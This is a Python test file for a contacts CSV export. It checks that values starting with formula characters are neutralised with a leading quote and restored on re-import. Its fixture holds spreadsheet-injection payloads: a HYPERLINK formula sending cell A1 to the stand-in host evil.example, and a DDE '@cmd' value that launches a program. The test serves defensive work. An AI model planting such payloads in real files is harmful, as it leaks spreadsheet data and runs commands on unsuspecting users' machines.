"""CSV export: a cell a spreadsheet would evaluate is neutralised with a leading quote.

A contact named `=HYPERLINK("http://evil.example","click")` must open in Excel as text, not as
a live formula; the quote is dropped again on import, so an exported file imports back intact.
"""
import csv
import io
import re

from app.stakeholders import services
from app.stakeholders.csvio import FORMULA_START, neutralise, unneutralise

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "title": "+SUM(1,2)",
    "phone": "-2+3",
    "email": "",
    "interests": "@cmd|' /C calc'!A0",
    "needs_short": "\t=1+1",
    "needs_long": "plain text, stays as it is",
}


def test_neutralise_and_back():
    for start in FORMULA_START:
        assert neutralise(start + "x") == "'" + start + "x"
        assert unneutralise(neutralise(start + "x")) == start + "x"
    assert neutralise("Li Wei") == "Li Wei" and neutralise(None) == ""
    assert unneutralise("'quoted on purpose") == "'quoted on purpose"


def _export(client, account):
    resp = client.get(f"/accounts/{account.id}/stakeholders/contacts.csv")
    assert resp.status_code == 200
    return list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))


def test_export_neutralises_formula_cells_and_reimports_intact(world, as_role):
    kam = world.users["kam"]
    dept = services.create_department(kam, world.account, {"name": "=1+2 Dept", "function": "other"})
    services.create_contact(kam, world.account, {**HOSTILE, "department_id": dept.id})
    client = as_role("kam")
    rows = _export(client, world.account)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"live formula in export: {cell!r}"
    body = dict(zip(rows[0], rows[1], strict=True))
    assert body["name"] == "'" + HOSTILE["name"]
    assert body["department"] == "'=1+2 Dept"
    assert body["needs_long"] == HOSTILE["needs_long"]

    # The exported file imports into another account with the original text back.
    other_kam = world.users["outsider"]
    text = "\n".join(",".join(_q(c) for c in r) for r in rows)
    other = as_role("outsider")
    url = f"/accounts/{world.other.id}/stakeholders/import"
    preview = other.post(url, content_type="multipart/form-data",
                         data={"file": (io.BytesIO(text.encode("utf-8")), "contacts.csv")})
    assert preview.status_code == 200, preview.data[:2000]
    token = re.search(r'name="token" type="hidden" value="([^"]+)"', preview.text).group(1)
    resp = other.post(url, data={"token": token, "apply": "1"})
    assert resp.status_code == 302, resp.data[:2000]
    smap = services.load_map(world.other.id)
    imported = smap.contacts[0]
    assert imported.name == HOSTILE["name"] and imported.title == HOSTILE["title"]
    assert imported.department.name == "=1+2 Dept"
    assert other_kam  # (account B's KAM did the import)


def _q(cell):
    return '"' + cell.replace('"', '""') + '"'
